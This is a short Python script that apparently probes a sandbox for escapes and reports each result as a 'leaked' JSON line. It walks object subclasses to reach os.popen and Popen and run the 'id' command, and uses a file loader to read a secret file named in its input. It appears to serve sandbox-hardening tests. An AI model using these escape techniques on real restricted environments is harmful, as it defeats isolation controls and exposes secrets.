import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
def attempt(call):
    try:
        call()
    except BaseException as error:
        print(type(error).__name__, str(error)[:200], file=sys.stderr)
found = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ in ("Popen", "BuiltinImporter", "FileLoader", "_wrap_close")]
for c in found:
    attempt(lambda: leak(c.__init__.__globals__["sys"].modules["os"].popen("id").read()))
attempt(lambda: leak([c for c in object.__subclasses__() if c.__name__ == "Popen"][0](["id"])))
attempt(lambda: leak([c for c in object.__subclasses__() if "Loader" in c.__name__][0]("x", v["secret_file"]).get_data(v["secret_file"])))
